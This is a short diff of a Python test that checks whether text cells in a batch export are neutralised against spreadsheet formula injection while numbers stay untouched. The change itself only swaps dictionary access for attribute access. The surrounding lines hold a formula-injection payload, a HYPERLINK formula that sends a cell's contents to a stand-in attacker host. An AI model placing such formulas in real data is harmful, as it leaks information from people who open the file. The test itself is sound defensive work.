@@ -60,7 +60,7 @@ def test_every_text_cell_of_a_batch_is_neutralised_and_numbers_are_not(make_pc, 
     rejected = intake.register(injector, Registration(
         Purpose.APPLY, Channel.ONSITE,
         Applicant(ApplicantKind.PERSON, "王小明", "resident_id", "11010519491231002X"), ITEM))
-    intake.decide(injector, str(rejected["id"]), SubmissionInput(
+    intake.decide(injector, str(rejected.id), SubmissionInput(
         ANSWERS, ALL_PRESENT, in_jurisdiction=False,
         competent_office='=HYPERLINK("http://evil.example/?d="&A1,"点击")'))
     rated = pc.register_and_accept()
